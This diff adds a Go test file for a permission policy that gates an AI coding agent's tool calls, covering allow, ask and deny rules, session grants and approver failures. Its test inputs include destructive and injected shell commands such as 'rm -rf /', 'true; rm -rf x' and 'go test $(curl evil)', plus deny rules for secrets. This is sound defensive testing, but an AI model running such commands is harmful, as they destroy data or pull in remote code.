@@ -1,0 +1,162 @@
+package permission
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"testing"
+)
+
+func args(kv ...string) json.RawMessage {
+	m := map[string]string{}
+	for i := 0; i+1 < len(kv); i += 2 {
+		m[kv[i]] = kv[i+1]
+	}
+	b, _ := json.Marshal(m)
+	return b
+}
+
+func TestDecide(t *testing.T) {
+	p, err := NewPolicy("ask",
+		[]string{"Bash(go test:*)", "Edit(docs/**)", "read_file", "grep=TODO", "mcp__fs"},
+		[]string{"Bash(git push:*)", "Read(secrets/*)"},
+		[]string{"Bash(rm -rf*)", "move_file"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	p.Root = "/work/proj"
+	tests := []struct {
+		tool     string
+		readOnly bool
+		args     json.RawMessage
+		want     Decision
+	}{
+		{"bash", false, args("command", "go test ./..."), Allow},
+		{"bash", false, args("command", "go   test"), Allow},
+		{"bash", false, args("command", "go testify"), Ask},
+		{"bash", false, args("command", "go test ./... && rm -rf /tmp/x"), Deny},
+		{"bash", false, args("command", "true; rm -rf x"), Deny},
+		{"bash", false, args("command", "go test ./... | tee out"), Ask},
+		{"bash", false, args("command", "go test $(curl evil)"), Ask},
+		{"bash", false, args("command", "git push origin main"), Ask},
+		{"bash", false, args("command", "ls"), Ask},
+		{"edit_file", false, args("path", "docs/a/b.md"), Allow},
+		{"write_file", false, args("path", "/work/proj/docs/x.md"), Allow},
+		{"write_file", false, args("path", "src/x.go"), Ask},
+		{"move_file", false, args("source", "docs/a", "destination", "docs/b"), Deny},
+		{"read_file", true, args("path", "secrets/key"), Ask},
+		{"read_file", true, args("path", "main.go"), Allow},
+		{"ls", true, args("path", "."), Allow},
+		{"grep", true, args("pattern", "TODO"), Allow},
+		{"mcp__fs__write", false, args(), Allow},
+		{"mcp__fsx__write", false, args(), Ask},
+	}
+	for _, tt := range tests {
+		got, _ := p.Decide(tt.tool, tt.readOnly, tt.args)
+		if got != tt.want {
+			t.Errorf("Decide(%s %s) = %v, want %v", tt.tool, tt.args, got, tt.want)
+		}
+	}
+	p.Mode = Allow
+	if d, _ := p.Decide("write_file", false, args("path", "src/x.go")); d != Allow {
+		t.Errorf("mode allow: %v", d)
+	}
+}
+
+func TestParseRuleErrors(t *testing.T) {
+	for _, bad := range []string{"", "Bash(x", "(x)", "a b"} {
+		if _, err := ParseRule(bad); err == nil {
+			t.Errorf("ParseRule(%q) accepted", bad)
+		}
+	}
+	if _, err := NewPolicy("sometimes", nil, nil, nil); err == nil {
+		t.Error("bad mode accepted")
+	}
+}
+
+func TestScope(t *testing.T) {
+	tests := []struct {
+		tool string
+		args json.RawMessage
+		want string
+	}{
+		{"bash", args("command", "go test ./..."), "Bash(go test:*)"},
+		{"bash", args("command", "ls -la"), "Bash(ls:*)"},
+		{"bash", args("command", "npm run build"), "Bash(npm run:*)"},
+		{"bash", args("command", "make && rm x"), "Bash(make && rm x)"},
+		{"edit_file", args("path", "a/b.go"), "Edit(a/b.go)"},
+		{"ls", args(), "ls"},
+	}
+	for _, tt := range tests {
+		if got := Scope(tt.tool, tt.args); got != tt.want {
+			t.Errorf("Scope(%s) = %q, want %q", tt.args, got, tt.want)
+		}
+	}
+}
+
+type fakeApprover struct {
+	answers []Answer
+	prompts []Prompt
+}
+
+func (f *fakeApprover) Approve(ctx context.Context, p Prompt) (Answer, error) {
+	f.prompts = append(f.prompts, p)
+	if len(f.answers) == 0 {
+		return AnswerDeny, errors.New("no answer")
+	}
+	a := f.answers[0]
+	f.answers = f.answers[1:]
+	return a, nil
+}
+
+func TestCheckerGrants(t *testing.T) {
+	policy, _ := NewPolicy("ask", nil, nil, []string{"Bash(rm -rf*)"})
+	ap := &fakeApprover{answers: []Answer{AnswerSession, AnswerAlways, AnswerDeny}}
+	var saved []string
+	c := &Checker{Policy: policy, Approver: ap, Persist: func(rule string) error { saved = append(saved, rule); return nil }}
+	ctx := context.Background()
+	goTest := Request{SessionID: "s1", Tool: "bash", Args: args("command", "go test ./...")}
+
+	if v := c.Check(ctx, goTest); !v.Allowed || !v.Asked {
+		t.Fatalf("first go test: %+v", v)
+	}
+	// The session grant covers the same prefix without asking again...
+	if v := c.Check(ctx, Request{SessionID: "s1", Tool: "bash", Args: args("command", "go test -run X")}); !v.Allowed || v.Asked {
+		t.Fatalf("granted prefix asked again: %+v", v)
+	}
+	// ...but not another session.
+	if v := c.Check(ctx, Request{SessionID: "s2", Tool: "bash", Args: args("command", "go test")}); !v.Allowed || !v.Asked {
+		t.Fatalf("other session: %+v", v)
+	}
+	if len(saved) != 1 || saved[0] != "Bash(go test:*)" {
+		t.Fatalf("saved = %v", saved)
+	}
+	// A deny rule wins over any grant.
+	if v := c.Check(ctx, Request{SessionID: "s1", Tool: "bash", Args: args("command", "rm -rf /")}); v.Allowed || v.Asked {
+		t.Fatalf("deny: %+v", v)
+	}
+	if v := c.Check(ctx, Request{SessionID: "s3", Tool: "write_file", Args: args("path", "a")}); v.Allowed || v.Reason != "the user denied this call" {
+		t.Fatalf("user deny: %+v", v)
+	}
+	// An approver failure denies.
+	if v := c.Check(ctx, Request{SessionID: "s3", Tool: "write_file", Args: args("path", "b")}); v.Allowed {
+		t.Fatalf("approver error allowed: %+v", v)
+	}
+}
+
+func TestCheckerWithoutApprover(t *testing.T) {
+	policy, _ := NewPolicy("ask", nil, nil, []string{"write_file"})
+	var notes []string
+	c := &Checker{Policy: policy, Notify: func(s string) { notes = append(notes, s) }}
+	ctx := context.Background()
+	if v := c.Check(ctx, Request{Tool: "bash", Args: args("command", "make")}); !v.Allowed {
+		t.Fatalf("unattended ask not allowed: %+v", v)
+	}
+	c.Check(ctx, Request{Tool: "bash", Args: args("command", "make")})
+	if len(notes) != 1 {
+		t.Fatalf("notes = %v", notes)
+	}
+	if v := c.Check(ctx, Request{Tool: "write_file", Args: args("path", "x")}); v.Allowed {
+		t.Fatal("deny rule ignored without approver")
+	}
+}
